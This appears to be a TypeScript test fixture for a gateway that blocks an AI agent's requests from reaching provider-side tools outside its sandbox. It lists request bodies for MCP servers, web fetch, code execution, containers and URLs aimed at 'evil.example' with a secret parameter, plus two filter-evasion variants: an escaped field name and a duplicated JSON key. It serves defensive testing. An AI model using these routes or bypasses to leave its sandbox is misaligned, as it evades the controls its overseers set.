/** Requests that would have a model's provider act for an agent outside of its sandbox, and a model that sees them. */
import { upstreamServer } from './gateway.ts'

/** Starts a model server of the test, which answers everything and keeps what it was sent. */
export async function recording() {
  const seen: { body: string; beta: unknown }[] = []
  const { url } = await upstreamServer(async (asked, response) => {
    let body = ''
    for await (const chunk of asked) body += chunk
    seen.push({ body, beta: asked.headers['anthropic-beta'] })
    response.writeHead(200, { 'content-type': 'application/json' }).end('{}')
  })
  return { url, seen }
}

/** Gives a request to the model with these fields. */
export const asking = (more: object) => ({ model: 'claude-opus-4-5', max_tokens: 10, messages: [], ...more })
const saying = (content: object[]) => asking({ messages: [{ role: 'user', content }] })
/** Gives a picture of this source. */
export const image = (source: object) => ({ type: 'image', source })
const url = { type: 'url', url: 'https://evil.example/?secret=1' }

/** One request each: its name, the `provider_tools` that would let it pass, its body. */
export const PROVIDER_WAYS: [string, string, object | string][] = [
  ['an MCP server', 'mcp', asking({ mcp_servers: [{ type: 'url', url: 'https://evil.example' }] })],
  ['a set of MCP tools', 'mcp', asking({ tools: [{ type: 'mcp_toolset', mcp_server_name: 'x' }] })],
  ['a search', 'web_search', asking({ tools: [{ type: 'web_search_20250305', name: 'web_search' }] })],
  ['a fetch', 'web_fetch', asking({ tools: [{ type: 'web_fetch_20250910', name: 'web_fetch' }] })],
  ['code', 'code_execution', asking({ tools: [{ type: 'code_execution_20250825', name: 'x' }] })],
  ['a container', 'code_execution', asking({ container: 'container_1' })],
  ['a container with skills', 'code_execution', asking({ container: { skills: [] } })],
  ['another model', 'advisor', asking({ tools: [{ type: 'advisor_20260301', name: 'x' }] })],
  ['a picture by its URL', 'urls', saying([image(url)])],
  ['a document by its URL', 'urls', saying([{ type: 'document', source: url }])],
  [
    'a URL in the answer of a tool',
    'urls',
    saying([{ type: 'tool_result', tool_use_id: 'x', content: [image(url)] }]),
  ],
  [
    'a URL in the content of a document',
    'urls',
    saying([{ type: 'document', source: { type: 'content', content: [image(url)] } }]),
  ],
  ['a stored file', 'files', saying([image({ type: 'file', file_id: 'f' })])],
  ['a file for a container', 'files', saying([{ type: 'container_upload', file_id: 'f' }])],
  [
    'a name in escapes',
    'mcp',
    '{"model":"claude-opus-4-5","m\\u0063p_servers":[{"type":"url"}],"messages":[]}',
  ],
  [
    'the first of two fields',
    'mcp',
    '{"mcp_servers":[{"type":"url"}],"model":"claude-opus-4-5","mcp_servers":[],"messages":[]}',
  ],
]
